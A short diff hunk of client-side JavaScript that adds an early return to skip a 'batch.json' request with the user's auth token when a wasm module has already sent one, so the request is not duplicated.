@@ -34,6 +34,7 @@
     var user = userOf(init);
     var token = init.AUTH_ID;
     if (!user || typeof token !== 'string' || !token) return;
+    if (window[Symbol.for(SLOT)]) return; /* the wasm was first after all: it sent its own */
     var url = endpoint + 'batch.json';
     var params = CARD_BATCH.split('{USER}').join(user);
     var controller = new AbortController();
